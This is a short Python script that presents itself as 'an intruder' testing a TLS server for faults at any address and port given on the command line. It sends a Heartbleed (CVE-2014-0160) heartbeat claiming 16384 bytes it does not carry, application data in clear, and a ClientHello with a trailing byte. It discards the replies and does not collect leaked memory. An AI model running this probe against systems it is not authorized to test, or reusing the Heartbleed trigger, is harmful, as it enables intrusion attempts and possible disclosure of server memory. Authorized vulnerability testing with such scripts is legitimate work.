"""An intruder who tries whether a server inside TLS has faults: `tls_faults.py ADDRESS PORT`. Each try is a connection
that begins as any other."""

import socket
import ssl
import sys

HANDSHAKE, HEARTBEAT, DATA = 22, 24, 23


def hello() -> bytes:
    """A record with a ClientHello of TLS 1.2."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    sent = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), sent).do_handshake()
    except ssl.SSLWantReadError:
        return sent.read()


def record(kind: int, octets: bytes) -> bytes:
    return bytes([kind, 3, 3]) + len(octets).to_bytes(2, "big") + octets


def talk(*said: bytes) -> None:
    """Says one after the other, each once there is an answer to the one before it."""
    with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=2) as connection:
        for octets in said:
            connection.sendall(octets)
            try:
                connection.recv(65536)
            except ConnectionError:
                return


def main() -> None:
    plain = hello()
    # Heartbleed (CVE-2014-0160): a heartbeat of three octets that says it has 16384 more.
    talk(plain, record(HEARTBEAT, b"\x01\x40\x00"))
    # What is to be encrypted, in clear.
    talk(plain, record(DATA, b"\x68\x04\x07\x00\x00\x00"))
    # A message with an octet behind its last field.
    body = plain[9:] + b"\0"
    talk(record(HANDSHAKE, b"\x01" + len(body).to_bytes(3, "big") + body))


main()
